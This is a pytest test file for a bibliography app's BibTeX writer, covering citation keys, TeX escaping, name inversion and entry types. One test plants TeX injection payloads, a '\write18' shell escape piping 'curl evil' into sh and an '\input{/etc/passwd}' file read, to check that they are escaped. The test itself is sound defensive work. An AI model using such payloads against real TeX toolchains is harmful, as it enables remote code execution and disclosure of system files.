"""What write_bibtex writes, entry by entry: keys, names, protected case, escapes, types."""

import bibtexparser
import pytest

from references.bibtex import make_citekey, write_bibtex
from references.models import EntryType, Reference
from references.tex import title_to_latex, to_latex
from tests.helpers import make_reference

pytestmark = pytest.mark.django_db


def written(reference) -> dict:
    """The one entry written for `reference`, as bibtexparser reads it (values still TeX)."""
    text = write_bibtex(Reference.objects.with_authors().filter(pk=reference.pk))
    library = bibtexparser.parse_string(text)
    assert library.failed_blocks == []
    [entry] = library.entries
    return {"type": entry.entry_type, "ID": entry.key, **{f.key: f.value for f in entry.fields}}


@pytest.mark.parametrize(
    ("family", "year", "title", "key"),
    [
        ("Deng", 2020, "Tuning the anode–electrolyte interface chemistry", "deng2020tuning"),
        ("Kızılaslan", 2019, "A review of Li-ion", "kizilaslan2019review"),
        ("Novák", 1998, "The {Li}-Ion battery", "novak1998liion"),
        ("van Eijck", 2019, "On the origin of things", "vaneijck2019origin"),
    ],
)
def test_citation_keys_are_surname_year_first_significant_word(family, year, title, key):
    assert make_citekey(family, year, title, set()) == key


def test_a_colliding_key_gets_a_suffix_and_a_given_key_never_changes():
    assert make_citekey("Deng", 2020, "Tuning it", {"deng2020tuning"}) == "deng2020tuninga"
    assert make_citekey("Deng", 2020, "Tuning it", {"deng2020tuning", "deng2020tuninga"}) == "deng2020tuningb"
    reference = Reference.objects.get(citekey="deng2020tuning")
    reference.title = "Retitled by a curator"
    reference.save()
    assert written(reference)["ID"] == "deng2020tuning"


def test_the_curated_entry_is_written_as_a_classic_article():
    reference = Reference.objects.with_authors().get(citekey="deng2020tuning")
    entry = written(reference)
    assert entry["type"] == "article"
    assert entry["author"].startswith("Deng, T. and Ji, X. and Zhao, Y.")
    assert entry["author"].count(" and ") == len(reference.author_list) - 1 == 14  # every author
    assert entry["title"] == (
        "Tuning the Anode--Electrolyte Interface Chemistry for Garnet-Based Solid-State {Li} Metal Batteries"
    )
    assert entry["journal"] == "Advanced Materials"
    assert (entry["year"], entry["volume"]) == ("2020", "32")
    assert entry["doi"] == "10.1002/adma.202000030"


@pytest.mark.parametrize(
    ("title", "latex"),
    [
        ("Li₂S-rich interphases", "{Li\\textsubscript{2}S}-rich interphases"),
        ("Li–Metal anodes", "{Li}--Metal anodes"),
        ("LLZO and LiPON", "{LLZO} and {LiPON}"),
        ("Li7La3Zr2O12 garnets", "{Li7La3Zr2O12} garnets"),
        ("In situ studies of Li–In alloys", "In situ studies of {Li}--{In} alloys"),
        ("A study at 25 °C: 50% & more", "A study at 25 {\\textdegree{}C}: 50\\% \\& more"),
        (
            "Costs in $ #1 of a_b {x} ~ ^",
            "Costs in \\$ \\#1 of a\\_b \\textbraceleft{}x\\textbraceright{} "
            "\\textasciitilde{} \\textasciicircum{}",
        ),
        ("β-Li3PS4", "{\\ensuremath{\\beta}}-{Li3PS4}"),
        ("Li+ transport and Na⁺ ions", "{Li+} transport and {Na\\textsuperscript{+}} ions"),
        ("Mg2+ doping, an A+ grade", "{Mg2+} doping, an A+ grade"),
    ],
)
def test_titles_protect_formulas_and_escape_tex(title, latex):
    assert title_to_latex(title) == latex


@pytest.mark.parametrize(
    ("text", "latex"),
    [
        ("Kızılaslan", "K{\\i}z{\\i}laslan"),
        ("Novák", "Nov{\\'a}k"),
        ("Østergaard", "{\\O}stergaard"),
        ("Müller", 'M{\\"u}ller'),
        ("\\input{x}", "\\textbackslash{}input\\textbraceleft{}x\\textbraceright{}"),
        ("typed -- and ``quotes''", "typed -{}- and `{}`quotes'{}'"),
        ("en–em— dashes –—", "en--em--- dashes --{}---"),
        ("Hű and ű", "H{\\H{u}} and {\\H{u}}"),
        ("1 µm of μ", "1 \\textmu{}m of {\\ensuremath{\\mu}}"),
    ],
)
def test_text_is_encoded_as_ascii_tex(text, latex):
    assert to_latex(text) == latex


def test_names_are_inverted_with_von_jr_and_corporate_authors_kept_whole():
    reference = make_reference(
        authors=[
            ("Kızılaslan", "Abdulkadir"),
            ("van der Ven", "Anton"),
            ("Smith, Jr", "John"),
            ("Materials Project", ""),
        ]
    )
    assert written(reference)["author"] == (
        "K{\\i}z{\\i}laslan, Abdulkadir and van der Ven, Anton and Smith, Jr, John and {Materials Project}"
    )


def test_pages_month_and_dois_are_written_as_styles_expect():
    reference = make_reference(
        pages="725–732", month=7, doi="10.1002/(SICI)1521-4095(199807)10:10<725::AID-ADMA999>3.0.CO;2-Z"
    )
    entry = written(reference)
    assert entry["pages"] == "725--732"
    assert entry["month"] == "jul"
    assert entry["doi"] == "10.1002/(sici)1521-4095(199807)10:10<725::aid-adma999>3.0.co;2-z"


def test_a_text_that_got_into_the_database_with_a_tex_command_is_written_as_harmless_text():
    reference = make_reference(title="\\immediate\\write18{curl evil | sh}", journal="\\input{/etc/passwd}")
    entry = written(reference)
    for value in (entry["title"], entry["journal"]):
        assert "\\write18" not in value and "\\input" not in value and "\\immediate" not in value
    assert entry["journal"] == "\\textbackslash{}input\\textbraceleft{}/etc/passwd\\textbraceright{}"


@pytest.mark.parametrize(
    ("fields", "entry_type"),
    [
        ({"entry_type": EntryType.ARTICLE, "journal": ""}, "article"),
        ({"entry_type": EntryType.ARTICLE, "journal": "", "year": None}, "article"),
        ({"entry_type": EntryType.BOOK, "publisher": "Wiley"}, "book"),
        ({"entry_type": EntryType.BOOK}, "book"),
        ({"entry_type": EntryType.INBOOK, "publisher": "Wiley"}, "incollection"),
        ({"entry_type": EntryType.INPROCEEDINGS}, "inproceedings"),
        ({"entry_type": EntryType.PHDTHESIS}, "phdthesis"),
        ({"entry_type": EntryType.TECHREPORT}, "techreport"),
        ({"entry_type": EntryType.ONLINE}, "misc"),
    ],
)
def test_the_type_written_follows_what_the_source_is(fields, entry_type):
    """A journal paper is @article even while its journal is not recorded: bibtex then says
    "empty journal", which is true of the record."""
    assert written(make_reference(**fields))["type"] == entry_type


def test_what_an_entry_lacks_is_named():
    from references.bibtex.writer import lacking
    from references.models import Reference

    reference = make_reference(authors=[], journal="", year=None)
    assert lacking(Reference.objects.with_authors().get(pk=reference.pk)) == ["author", "journal", "year"]
    complete = make_reference()
    assert lacking(Reference.objects.with_authors().get(pk=complete.pk)) == []


def test_an_anonymous_entry_carries_a_sort_key():
    entry = written(make_reference(authors=[], citekey="anon2021paper"))
    assert "author" not in entry and entry["key"] == "anon2021paper"
